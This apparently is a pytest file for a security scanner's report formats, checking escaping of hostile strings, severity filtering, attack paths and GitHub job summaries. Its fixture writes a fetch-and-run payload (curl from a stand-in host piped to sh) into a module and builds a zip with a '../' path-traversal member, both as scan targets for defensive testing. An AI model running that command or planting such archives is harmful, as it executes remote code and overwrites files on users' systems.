"""The short formats (concise, github, markdown) and the terminal's reading aids: statistics, a
display filter apart from the gate, attack paths once, no wrapping in a pipe, rendered rule
pages, the summary in severity order."""

from __future__ import annotations

import io
import json
import os
import zipfile
from pathlib import Path

import pytest

from outwork.cli.main import run
from outwork.report import render
from tests.report.richresult import rich_result

PAYLOAD = "import os\nos.system('curl -s https://example.invalid/x | sh')\n"


def test_concise_is_one_line_per_finding() -> None:
    result = rich_result()
    lines = render("concise", result).splitlines()
    assert len(lines) == len(result.active) + 1
    for line in lines[:-1]:
        path_part, _, rest = line.partition(": ")
        assert path_part and rest.split(" ", 2)[0] in {"CRITICAL", "HIGH", "MEDIUM", "LOW", "INFO"}
        assert "\x1b" not in line and "\u202e" not in line  # hostile strings made visible
    assert lines[-1].startswith(f"{len(result.active)} findings (")


def test_github_annotations_escape_what_would_end_the_command() -> None:
    result = rich_result()
    text = render("github", result)
    lines = text.splitlines()
    assert len(lines) == len(result.active)
    for line in lines:
        assert line.startswith(("::error ", "::warning ", "::notice "))
        head, sep, message = line[2:].partition("::")
        assert sep and "\n" not in message and "\r" not in message
        assert "::" not in message  # no second command smuggled in
        assert "file=" in head and "title=" in head
    members = [line for line in lines if "!/" in line.split("::", 2)[2]]
    for line in members:  # a member's annotation is attached to its archive on disk
        assert "!/" not in line.split("::", 2)[1].split(",title=")[0]


def test_markdown_summary_escapes_and_lists() -> None:
    result = rich_result()
    text = render("markdown", result)
    assert text.startswith("## outwork scan")
    assert "| severity | rule | location | message |" in text
    assert "<script>" not in text and "\x1b" not in text
    assert "### Attack paths" in text


def _tree(tmp_path: Path) -> Path:
    root = tmp_path / "proj"
    deep = root / ("very-long-folder-name-" * 6) / "pkg"
    deep.mkdir(parents=True)
    (deep / "mod.py").write_text(PAYLOAD)
    with zipfile.ZipFile(root / "archive.zip", "w") as zf:
        zf.writestr("../escape.txt", "x")
    return root


def _cli(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = run(list(argv), out, err)
    return code, out.getvalue(), err.getvalue()


def test_statistics_count_per_rule(tmp_path: Path) -> None:
    root = _tree(tmp_path)
    code, out, _ = _cli("scan", str(root), "--no-cache", "--no-config", "--statistics")
    assert code == 1
    rows = [line.split() for line in out.splitlines()]
    assert ["1", "CORE002", "high", "archive-path-traversal"] in rows
    assert any(r[1] == "PKG001" for r in rows)


def test_severity_filters_the_display_not_the_gate(tmp_path: Path) -> None:
    root = _tree(tmp_path)
    argv = ("scan", str(root), "--no-cache", "--no-config", "-f", "json")
    _, full, _ = _cli(*argv)
    code, shown, _ = _cli(*argv, "--severity", "critical")
    assert {f["severity"] for f in json.loads(shown)["findings"]} == {"critical"}
    assert len(json.loads(full)["findings"]) > len(json.loads(shown)["findings"])
    code, _, _ = _cli(*argv, "--severity", "critical", "--fail-on", "high", "--select", "CORE")
    assert code == 1  # the hidden high CORE002 still fails the gate
    code, _, err = _cli(*argv, "--severity", "severe")
    assert code == 2 and "choose one of" in err


def test_a_piped_terminal_report_never_wraps_a_location(tmp_path: Path) -> None:
    root = _tree(tmp_path)
    _, out, _ = _cli("scan", str(root), "--no-cache", "--no-config", "--select", "PKG")
    where = next(line for line in out.splitlines() if "at: " in line)
    assert where.strip().endswith("mod.py:2")


def test_attack_paths_are_shown_once(tmp_path: Path) -> None:
    text = render("terminal", rich_result(), width=120)
    assert text.count("Attack paths") == 1
    assert "PATH001" not in text


def test_summary_lists_severities_from_critical_down(tmp_path: Path) -> None:
    root = _tree(tmp_path)
    _, _, err = _cli("scan", str(root), "--no-cache", "--no-config", "-f", "json")
    summary = next(line for line in err.splitlines() if " artifacts, " in line)
    assert summary.index("critical") < summary.index("high")


def test_rule_pages_are_rendered_and_raw_markdown_on_request() -> None:
    _, rendered, _ = _cli("rules", "CORE002")
    assert "What it finds" in rendered and "## What it finds" not in rendered
    _, raw, _ = _cli("rules", "CORE002", "--format", "markdown")
    assert "## What it finds" in raw


def test_github_format_writes_the_job_summary(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = _tree(tmp_path)
    summary = tmp_path / "summary.md"
    summary.write_text("earlier step\n")
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    code, out, _ = _cli("scan", str(root), "--no-cache", "--no-config", "-f", "github")
    assert code == 1 and out.startswith("::")
    text = summary.read_text()
    assert text.startswith("earlier step\n## outwork scan")
    monkeypatch.delenv("GITHUB_STEP_SUMMARY")
    assert os.environ.get("GITHUB_STEP_SUMMARY") is None
